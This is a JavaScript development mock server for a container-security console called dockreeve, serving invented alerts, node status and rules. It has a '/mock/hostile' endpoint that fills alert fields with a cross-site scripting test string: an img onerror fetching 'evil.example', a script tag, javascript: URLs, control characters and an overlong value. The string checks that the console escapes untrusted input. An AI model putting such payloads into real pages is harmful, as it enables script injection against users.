// A stand-in for `dockreeve server` while the console is developed and tested:
// the same Connect JSON protocol, the same paths, invented data. Not shipped.
//
//   node dev/mock.mjs            serves the API and ui/dist on 127.0.0.1:7301
//   DIST                         the built console to serve, ui/dist
//   PORT, RATE                   address; seconds between invented live events (0 = none, default 5)
//   POST /mock/...               drives it: raise, touch, cut, down, empty, gaps, scan, advisories, hostile-image, images-empty,
//                       request, hostile-cluster, audit-alert, silent, clusters-empty,
//                       governance-empty, hostile-governance, tenant?clusters=2000
import { createServer } from "node:http";
import { readFile } from "node:fs/promises";
import { extname, join, normalize } from "node:path";
import { fileURLToPath } from "node:url";
import { makeClusters } from "./cluster.mjs";
import { makeGovernance } from "./governance.mjs";
import { makeImages } from "./images.mjs";
import { SEV, makeAlert, ns, rnd, rules, seedAlerts, unassessed } from "./data.mjs";

const dist = process.env.DIST ?? join(fileURLToPath(new URL(".", import.meta.url)), "..", "dist");
const STATUS = ["unspecified", "open", "acknowledged", "resolved", "dismissed"];

export function startMock({ port = 0, rate = 5, count = 137, host = "127.0.0.1", log = false } = {}) {
  const started = Date.now() - (3 * 3600 + 12 * 60) * 1000;
  let all = seedAlerts(Date.now(), count);
  let kept = []; // what "empty" took away, until empty?v=0
  const pictures = makeImages(Date.now());
  const fleet = makeClusters(Date.now(), { images: pictures.of(), alerts: all });
  let governed = makeGovernance(Date.now(), { alerts: all });
  let seq = 1000;
  let changes = [];
  let down = false;
  let watched = true;
  let gaps = true;
  let lost = 0;
  const streams = new Set();
  const token = "mock-token";

  const publish = (kind, id) => {
    changes.push({ seq: String(++seq), kind, id });
    if (changes.length > 500) changes = changes.slice(-500);
    for (const s of streams) s.send([changes.at(-1)]);
  };
  const raise = (ruleId, ci = Math.floor(rnd() * 6)) => {
    const r = rules.find((x) => x.id === ruleId) ?? rules[Math.floor(rnd() * rules.length)];
    const x = makeAlert(r, ci, Date.now(), Date.now(), 1);
    all.push(x);
    publish("alert", x.alert.id);
    return x.alert;
  };
  const touch = (id) => {
    const x = all.find((y) => y.alert.id === id) ?? all[Math.floor(rnd() * all.length)];
    x.alert.count = String(Number(x.alert.count) + 1);
    x.alert.lastSeen = x.alert.kernelTime = ns(Date.now());
    x.alert.storedAt = ns(Date.now() + 41);
    if (x.alert.status === "ALERT_STATUS_RESOLVED") x.alert.status = "ALERT_STATUS_OPEN";
    publish("alert", x.alert.id);
    return x.alert;
  };
  if (rate > 0) setInterval(() => (rnd() < 0.5 ? raise() : touch()), rate * 1000).unref();

  const watchedOf = () => watched
    ? { since: ns(started), lastEvent: ns(Date.now() - 700), eventsSeen: String(1_284_511 + Math.floor((Date.now() - started) / 5)), eventsLost: String(lost || (gaps ? 412 : 0)) }
    : { since: "0", notAssessed: "eBPF programs could not be loaded: not running as root (CAP_BPF and CAP_PERFMON are missing)" };

  const api = {
    ...pictures.api,
    ...fleet.api,
    ...governed.api,
    "AlertService/ListAlerts": (q) => {
      const test = parse(q.filter ?? "");
      const order = q.order || "last_seen";
      const key = { last_seen: (a) => BigInt(a.lastSeen), first_seen: (a) => BigInt(a.firstSeen), count: (a) => BigInt(a.count), severity: (a) => BigInt(SEV.indexOf(a.severity.slice(9))) }[order.replace("-", "")];
      if (!key) throw bad(`order "${order}" is not known: use last_seen, severity, count or first_seen`);
      const sign = order.startsWith("-") ? -1 : 1;
      const rows = watched || all.length ? all.map((x) => x.alert).filter(test) : [];
      rows.sort((a, b) => { const d = key(b) - key(a); return sign * (d > 0n ? 1 : d < 0n ? -1 : a.lastSeen < b.lastSeen ? 1 : a.id < b.id ? -1 : 1); });
      const from = Number(q.cursor || 0);
      const size = q.pageSize || 100;
      return { alerts: rows.slice(from, from + size), nextCursor: from + size < rows.length ? String(from + size) : "", total: String(rows.length), totalAll: String(all.length), changeSeq: String(seq), watched: watchedOf() };
    },
    "AlertService/GetAlert": (q) => {
      const x = all.find((y) => y.alert.id === q.id);
      if (!x) throw Object.assign(new Error(`no alert ${q.id}: it may have been deleted; list them with dockreeve alerts list`), { code: "not_found", http: 404 });
      return { alert: { alert: x.alert, ...x.detail }, changeSeq: String(seq) };
    },
    "AlertService/ListOccurrences": (q) => {
      const x = all.find((y) => y.alert.id === q.alertId);
      const from = Number(q.cursor || 0), size = q.pageSize || 50;
      return { occurrences: x.occurrences.slice(from, from + size), nextCursor: from + size < x.occurrences.length ? String(from + size) : "" };
    },
    "AlertService/SetAlertStatus": (q) => {
      const out = [];
      for (const id of q.ids ?? []) {
        const x = all.find((y) => y.alert.id === id);
        if (!x) continue;
        x.detail.history = [{ time: ns(Date.now()), from: x.alert.status, to: q.status, who: "local administrator", why: q.why ?? "" }, ...x.detail.history];
        x.alert.status = q.status;
        publish("alert", id);
        out.push(x.alert);
      }
      return { alerts: out };
    },
    "StatusService/GetStatus": () => ({
      version: "dev", now: ns(Date.now()), watched: watchedOf(),
      nodes: [{ name: "aks-user-14382954-vmss000002", lastReport: ns(Date.now() - 900), since: ns(started), reporting: watched, kernel: "5.15.0-1075-azure", mode: "live", notAssessed: watched ? "" : watchedOf().notAssessed, containers: "12", processes: "318", events: "1284511", lost: String(lost) }],
      losses: gaps ? [{ hop: "sensor.ring", reason: "ring_full", lane: "activity", count: "412", from: ns(Date.now() - 7.2e6), to: ns(Date.now() - 7.19e6) }] : [],
      notAssessed: [
        ...(gaps ? [
          { what: "Pod and owner names", reason: "no cluster agent reports here", remedy: "dockreeve cluster --hub https://this-host:7300" },
          { what: "io_uring", reason: "2 processes have set up io_uring; their file reads do not pass system calls", remedy: "sysctl -w kernel.io_uring_disabled=2" },
        ] : []),
        ...(watched ? [] : [{ what: "Kernel events on this node", reason: watchedOf().notAssessed, remedy: "sudo dockreeve up" }]),
      ],
      hops: [{ hop: "sensor.ring", in: "1284923", out: "1284511", lost: gaps ? "412" : "0" }, { hop: "detect", in: "1284511", out: String(all.length) }, { hop: "link.pipe", in: String(all.length), out: String(all.length) }, { hop: "server.ingest", in: String(all.length), out: String(all.length) }],
      rulesWatching: rules.length, rulesNotAssessed: gaps ? unassessed.length : 0,
    }),
    "StatusService/ListRules": () => ({ rules: [
      ...rules.map((r) => ({ id: r.id, name: r.name, hash: r.hash, desc: r.desc, tags: r.tags, tactics: r.tactics, techniques: r.techniques, answers: r.answers, response: r.response, file: r.file, line: r.line, condition: r.condition, enabled: true, severity: SEV[r.sev].toLowerCase() })),
      ...unassessed.map(([id, name, sev, why, tactics], i) => ({ id, name, hash: "0", desc: name, tactics, file: `detect/rules/${id}.yaml`, line: 3 + i, condition: "", enabled: true, severity: SEV[sev].toLowerCase(), notAssessed: why })),
    ] }),
  };

  const server = createServer(async (req, res) => {
    const url = new URL(req.url, "http://mock");
    if (log) console.log(req.method, url.pathname);
    if (url.pathname.startsWith("/mock/")) return control(url, res);
    if (down) return req.socket.destroy();
    if (url.pathname === "/login") {
      if (url.searchParams.get("token") !== token) return send(res, 403, "text/plain", "this link was used or has run out: ask for a new one with dockreeve login");
      res.writeHead(303, { "set-cookie": "dockreeve=mock; HttpOnly; SameSite=Strict; Path=/", location: "/" });
      return res.end();
    }
    const m = /^\/dockreeve\.v1\.(.+)$/.exec(url.pathname);
    if (!m) return file(url.pathname, res);
    if (!/(^|; )dockreeve=mock/.test(req.headers.cookie ?? "")) return send(res, 401, "application/json", JSON.stringify({ code: "unauthenticated", message: "sign in first: open the link that dockreeve up or dockreeve login printed" }));
    const body = await read(req);
    if (m[1] === "ChangeService/Watch") return watch(body, req, res);
    const method = api[m[1]];
    if (!method) return send(res, 404, "application/json", JSON.stringify({ code: "unimplemented", message: m[1] }));
    try {
      send(res, 200, "application/json", JSON.stringify(method(body.length ? JSON.parse(body) : {})));
    } catch (err) {
      send(res, err.http ?? 500, "application/json", JSON.stringify({ code: err.code ?? "internal", message: err.message }));
    }
  });

  function watch(body, req, res) {
    const q = JSON.parse(body.subarray(5).toString() || "{}");
    res.writeHead(200, { "content-type": "application/connect+json" });
    const send = (list, reset = false) => {
      const data = Buffer.from(JSON.stringify({ seq: String(seq), changes: list, reset }));
      const head = Buffer.alloc(5);
      head.writeUInt32BE(data.length, 1);
      res.write(Buffer.concat([head, data]));
    };
    const since = Number(q.sinceSeq || 0);
    if (since && changes.length && since < Number(changes[0].seq) - 1) send([], true);
    else send(since ? changes.filter((c) => Number(c.seq) > since) : []);
    const stream = { send, end: () => req.socket.destroy() };
    streams.add(stream);
    res.on("close", () => streams.delete(stream));
  }
  function control(url, res) {
    const what = url.pathname.slice(6);
    const p = url.searchParams;
    let out = {};
    if (what === "hostile") {
      const x = makeAlert(rules[0], 0, Date.now(), Date.now(), 1);
      const evil = `<img src=x onerror="fetch('https://evil.example/')"><script>alert(1)</script>\u202eevil\u0000 javascript:alert(1) ${"A".repeat(5000)}`;
      x.alert.title = x.alert.summary = x.alert.subject.process = x.alert.subject.object = x.alert.subject.container.name = x.alert.subject.container.image = evil;
      x.alert.tactics = [evil]; x.alert.techniques = [evil];
      x.detail.lineage[0].cmdline = x.detail.lineage[0].name = evil;
      x.detail.why = [{ expr: evil, field: evil, op: "=", want: evil, got: evil, true: true }];
      x.detail.eventJson = evil; x.detail.output = evil; x.detail.rule = { ...x.detail.rule, response: [evil], desc: evil, condition: evil };
      x.alert.lastSeen = ns(Date.now() + 1000);
      all.push(x); publish("alert", x.alert.id); out = x.alert;
    } else if (what === "scan") { out = { key: pictures.scan() }; publish("image", out.key); publish("vulnerability", ""); }
    else if (what === "hostile-image") { out = { key: pictures.hostile() }; publish("image", out.key); }
    else if (what === "request") { out = { id: fleet.request() }; publish("audit", "prod-westeurope"); }
    else if (what === "hostile-cluster") out = fleet.hostile();
    else if (what === "audit-alert") out = { id: fleet.binding() };
    else if (what === "governance-empty") { governed.empty(p.get("v") !== "0"); publish("governance", ""); }
    else if (what === "hostile-governance") out = governed.hostile();
    else if (what === "tenant") { governed = makeGovernance(Date.now(), { alerts: all, count: Number(p.get("clusters") ?? 200) }); Object.assign(api, governed.api); publish("governance", ""); }
    else if (what === "silent") { fleet.unwatch(); publish("cluster", "prod-westeurope"); }
    else if (what === "clusters-empty") { fleet.empty(); publish("cluster", ""); publish("audit", ""); }
    else if (what === "advisories") { pictures.advisories(p.get("state") ?? "good"); publish("advisories", "v"); }
    else if (what === "images-empty") { pictures.empty(); publish("image", ""); }
    else if (what === "raise") out = raise(p.get("rule"), p.has("ctr") ? Number(p.get("ctr")) : undefined);
    else if (what === "touch") out = touch(p.get("id"));
    else if (what === "cut") for (const s of streams) s.end();
    else if (what === "down") { down = p.get("v") !== "0"; if (down) for (const s of streams) s.end(); }
    else if (what === "empty") { if (p.get("v") === "0") { all = [...kept, ...all]; kept = []; } else { kept = [...kept, ...all]; all = []; } publish("alert", ""); }
    else if (what === "watched") { watched = p.get("v") !== "0"; publish("status", ""); }
    else if (what === "gaps") { gaps = p.get("v") !== "0"; fleet.fine(!gaps); publish("status", ""); publish("cluster", "prod-westeurope"); }
    else if (what === "lost") lost = Number(p.get("v"));
    send(res, 200, "application/json", JSON.stringify(out));
  }
  return new Promise((resolve) => server.listen(port, host, () => {
    const at = `http://${host}:${server.address().port}`;
    resolve({ url: at, link: `${at}/login?token=${token}`, close: () => { server.closeAllConnections(); server.close(); } });
  }));
}

const bad = (message) => Object.assign(new Error(message), { code: "invalid_argument", http: 400 });
function send(res, code, type, body) { res.writeHead(code, { "content-type": type, "cache-control": "no-store" }); res.end(body); }
async function read(req) { const parts = []; for await (const p of req) parts.push(p); return Buffer.concat(parts); }
const types = { ".html": "text/html; charset=utf-8", ".js": "text/javascript; charset=utf-8", ".css": "text/css; charset=utf-8", ".svg": "image/svg+xml", ".woff2": "font/woff2", ".txt": "text/plain; charset=utf-8" };
async function file(path, res) {
  const name = normalize(path).replace(/^\/+/, "");
  const asset = extname(name) && !/^(alerts|audit|clusters|compliance|exposure|governance|identities|images|recommendations|vulnerabilities|workloads)\//.test(name) ? name : "index.html";
  try {
    const data = await readFile(join(dist, asset));
    res.writeHead(200, { "content-type": types[extname(asset)] ?? "application/octet-stream", "cache-control": "no-cache",
      "content-security-policy": "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; font-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'" });
    res.end(data);
  } catch { send(res, 404, "text/plain", "not found"); }
}

// The part of the query grammar the console uses: words, field:value, lists with
// commas, comparison for severity and age, a leading minus.
function parse(text) {
  const tests = [];
  for (const m of text.matchAll(/(-)?(?:([a-z_][a-z_.-]*):)?((?:>=|<=|>|<|=)?)("(?:[^"\\]|\\.)*"|\S+)/g)) {
    const [, neg, field, op, raw] = m;
    const values = (raw.startsWith('"') ? [raw.slice(1, -1).replace(/\\(.)/g, "$1")] : raw.split(",")).map((v) => v.toLowerCase());
    const has = (...texts) => values.some((v) => texts.some((t) => (field ? new RegExp("^" + v.split("*").map((x) => x.replace(/[\\^$.|?+()[\]{}]/g, "\\$&")).join(".*") + "$", "s").test((t ?? "").toLowerCase()) : (t ?? "").toLowerCase().includes(v))));
    let t;
    if (!field) t = (a) => has(a.title, a.summary, a.subject.workload, a.subject.process, a.subject.identity, a.subject.cluster, a.subject.container?.name, a.subject.container?.pod, a.subject.container?.image, a.id);
    else if (field === "status") { for (const v of values) if (!STATUS.includes(v)) throw bad(`status:${v}: no such status; use open, acknowledged, resolved or dismissed`); t = (a) => values.includes(a.status.slice(13).toLowerCase()); }
    else if (field === "severity") {
      const rank = (v) => { const i = SEV.findIndex((s) => s.toLowerCase().startsWith(v)); if (i < 1) throw bad(`severity:${v}: no such severity; use informational, low, medium, high or critical`); return i; };
      const of = (a) => SEV.indexOf(a.severity.slice(9));
      const want = values.map(rank);
      t = (a) => want.some((w) => ({ ">=": of(a) >= w, "<=": of(a) <= w, ">": of(a) > w, "<": of(a) < w })[op] ?? of(a) === w);
    } else if (field === "age") {
      const mm = /^(\d+)([smhdw])$/.exec(values[0]);
      if (!mm) throw bad(`age:${op}${values[0]}: write a number and a unit, as in age:<7d`);
      const limit = Number(mm[1]) * { s: 1e3, m: 60e3, h: 3.6e6, d: 864e5, w: 6048e5 }[mm[2]];
      t = (a) => { const age = Date.now() - Number(BigInt(a.lastSeen) / 1000000n); return op.startsWith(">") ? age > limit : age < limit; };
    } else if (["workload", "process", "user", "node", "object", "executable", "cluster", "identity", "owner", "tenant", "source", "agent", "reaches"].includes(field)) t = (a) => has(...[a.subject[field]].flat());
    else if (["image", "pod", "namespace"].includes(field)) t = (a) => has(a.subject.container?.[field]);
    else if (field === "container") t = (a) => has(a.subject.container?.name, a.subject.container?.id);
    else if (field === "rule") t = (a) => has(a.ruleId, a.title);
    else if (field === "tactic") t = (a) => has(...a.tactics);
    else if (field === "technique") t = (a) => has(...a.techniques);
    else if (field === "in-container") t = (a) => values.includes(a.subject.container ? "yes" : "no");
    else if (field === "loss") t = (a) => values.includes(a.affectedByLoss ? "yes" : "no");
    else if (field === "id") t = (a) => values.includes(a.id);
    else throw bad(`${field}: no such field at column ${m.index + 1}; fields are age, container, executable, image, namespace, node, object, pod, process, rule, severity, status, tactic, technique, user, workload`);
    tests.push(neg ? (a) => !t(a) : t);
  }
  return (a) => tests.every((t) => t(a));
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const m = await startMock({ port: Number(process.env.PORT ?? 7301), rate: Number(process.env.RATE ?? 5), count: Number(process.env.COUNT ?? 137) });
  console.log(`mock server: ${m.link}`);
}
